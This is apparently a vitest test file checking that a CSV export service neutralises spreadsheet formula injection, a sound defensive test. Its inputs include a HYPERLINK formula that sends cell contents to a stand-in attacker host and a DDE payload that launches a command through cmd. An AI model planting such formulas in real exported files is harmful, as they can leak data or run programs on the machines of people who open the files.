import { text } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvOf } from './csv.service.ts';

/** The table of one column, without its header and the ends of its lines. */
async function cellOf(value: string | null): Promise<string> {
  async function* pages() {
    yield [value];
  }
  const table = await text(csvOf(pages(), [['note', (each: string | null) => each]]));
  expect(table.slice(0, 7)).toBe('\ufeffnote\r\n');
  expect(table.slice(-2)).toBe('\r\n');
  const cell = table.slice(7, -2);
  return cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
}

describe('a cell of a table', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?q="&A1,"open")',
    '+1+1',
    '-2+3+cmd|"/C calc"!A0',
    ...['@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0=1+1', '＝1+1', '＋1', '－1', '＠1'],
  ])('that begins like a formula is a text: %j', async (value) => {
    expect(await cellOf(value)).toMatch(/^'/);
  });

  it.each([
    ['dry;=1+1;', "dry;'=1+1;"],
    ['dry; =1+1', "dry;' =1+1"],
    ['\n=1+1', "'\n'=1+1"],
    ['dry\t@SUM(1)', "dry\t'@SUM(1)"],
    ['dry\n-1+1', "dry\n'-1+1"],
    ['dry\r\n+1+1', "dry\r\n'+1+1"],
  ])('holds no formula for a program that separates by something else: %j', async (value, written) => {
    expect(await cellOf(value)).toBe(written);
  });

  it.each([
    'Echinacea × "Magnus"',
    'a=b, 1+1, -5°C in winter; keep dry',
    'mine@example.org',
    "'quoted'",
    'one\ntwo',
    '“Blattläuse” 🌱',
  ])('is otherwise as it was written: %j', async (value) => {
    expect(await cellOf(value)).toBe(value);
  });

  it('is empty where there is nothing', async () => {
    expect(await cellOf(null)).toBe('');
  });
});
